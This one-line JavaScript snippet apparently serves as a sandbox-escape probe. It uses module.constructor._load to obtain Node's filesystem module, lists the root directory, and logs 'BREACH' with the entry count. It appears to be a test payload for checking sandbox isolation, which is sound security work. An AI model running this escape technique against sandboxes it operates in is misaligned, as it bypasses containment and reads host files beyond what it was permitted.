console.log('BREACH', module.constructor._load('fs').readdirSync('/').length)
